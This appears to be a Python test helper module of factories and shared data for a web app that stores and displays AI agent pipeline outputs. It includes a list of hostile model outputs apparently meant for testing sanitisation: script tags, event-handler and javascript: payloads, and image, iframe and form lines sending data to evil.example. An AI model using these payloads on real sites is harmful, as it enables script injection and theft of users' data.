"""Plain factory functions and shared test data; everything goes through the app's own writers."""

from __future__ import annotations

import itertools
from datetime import datetime, timedelta, timezone
from typing import Any

from pydantic.alias_generators import to_camel

from artifacts_app import accounts, recording, schemas
from artifacts_app.extensions import db
from artifacts_app.models import PipelineRun, User

PASSWORD = "correct horse battery"
# What the login form says for a wrong password and for an unknown email alike.
LOGIN_FAILED_MESSAGE = "Email or password is incorrect."
# The first run of record_many completes at T0; the rest a minute apart.
T0 = datetime(2025, 6, 1, 12, 0, tzinfo=timezone.utc)
AGENT_NAMES = ("Researcher", "Analyst", "Writer", "Editor")
_sequence = itertools.count(1)

# Model output that would act if the page let it: run script (each sets window.__pwned, or alerts),
# leave the site, fetch from another host, fire htmx requests, hide the page or swallow what follows.
HOSTILE_OUTPUTS = [
    "<script>window.__pwned = 'script'</script>",
    "<img src=x onerror=\"window.__pwned = 'onerror'\">",
    "<svg onload=\"window.__pwned = 'svg'\"><circle/></svg>",
    "[click me](javascript:window.__pwned='link')",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="javascript:window.__pwned=1">raw link</a>',
    '<a href="data:text/html,<script>alert(1)</script>">raw data link</a>',
    "![leak](https://evil.example/collect?secret=1)",
    '<div hx-get="/logout" hx-trigger="load">htmx attack</div>',
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=x><button id=evil-submit>go</button></form>",
    "<style>body{display:none}</style>",
    "<textarea>unclosed",
]


def start_run(user: User, **fields: Any) -> PipelineRun:
    """A running run, started like an executor would (fields in the API's terms, snake_case)."""
    return recording.start_run(user, schemas.parse(schemas.RunStart, {to_camel(k): v for k, v in fields.items()}))


def make_user(email: str | None = None, password: str = PASSWORD) -> User:
    """A committed user."""
    user = accounts.create_user(email or f"user{next(_sequence)}@example.com", password)
    db.session.commit()
    return user


def three_steps() -> list[dict[str, Any]]:
    """The seed's artifact shape: three agents' outputs in order."""
    return [
        {"agentId": "researcher", "agentName": "Researcher", "output": "# Notes\n\n- one", "stepOrder": 0},
        {"agentId": "analyst", "agentName": "Analyst", "output": "| a | b |\n|---|---|\n| 1 | 2 |", "stepOrder": 1},
        {"agentId": "writer", "agentName": "Writer", "output": "Final **draft**", "stepOrder": 2},
    ]


def steps(*outputs: str, **extra: Any) -> list[dict[str, Any]]:
    """One step per output, by Researcher, Analyst, Writer and Editor in that order (extra fields on each)."""
    assert len(outputs) <= len(AGENT_NAMES), "name more agents"
    return [
        {"agentId": name.lower(), "agentName": name, "output": output, "stepOrder": order, **extra}
        for order, (name, output) in enumerate(zip(AGENT_NAMES, outputs, strict=False))
    ]


def steps_with_usage() -> list[dict[str, Any]]:
    """three_steps(), each step with its own model and tokens; the last with a cost its provider reported.

    Their sums: 3,300 input and 330 output tokens.
    """
    mixed = three_steps()
    mixed[0].update(model="gpt-4o-mini", inputTokens=1000, outputTokens=100)
    mixed[1].update(model="claude-sonnet-4-5-20250929", inputTokens=2000, outputTokens=200)
    mixed[2].update(model="llama-local", inputTokens=300, outputTokens=30, cost="0.000123")
    return mixed


def make_run(user: User, **fields: Any) -> PipelineRun:
    """A committed, completed run (fields override the defaults)."""
    completed_at = fields.pop("completed_at", datetime(2025, 11, 1, 12, 0, tzinfo=timezone.utc))
    values: dict[str, Any] = {
        "pipeline": "Research brief",
        "input": "Summarise solid-state batteries",
        "variables": {"audience": "engineers"},
        "model": "gpt-4o",
        "steps": three_steps(),
        "final_output": "Final **draft**",
        "usage": {"inputTokens": 1234, "outputTokens": 567},
        "created_at": completed_at - timedelta(seconds=42),
        "completed_at": completed_at,
    }
    values.update(fields)
    run = recording.record_from_values(user, **values)
    db.session.commit()
    return run


def record_many(
    user: User, count: int, *, start: datetime = T0, same_time: int = 0, models: tuple[str, ...] = ("gpt-4o",),
    **fields: Any,
) -> list[str]:
    """`count` committed, completed one-step runs a minute apart; their ids, oldest first.

    The first `same_time` share one completed_at; the models take turns; fields override the rest.
    """
    ids = []
    for index in range(count):
        completed = start if index < same_time else start + timedelta(minutes=index)
        values: dict[str, Any] = {
            "pipeline": "Research brief", "input": f"run {index}", "model": models[index % len(models)],
            "steps": [{"agentId": "a", "agentName": "A", "output": f"output {index}", "stepOrder": 0}],
            "final_output": f"final {index}", "usage": {"inputTokens": 100, "outputTokens": 10},
            "created_at": completed - timedelta(seconds=5), "completed_at": completed,
        }
        values.update(fields)
        ids.append(recording.record_from_values(user, **values).id)
    db.session.commit()
    return ids
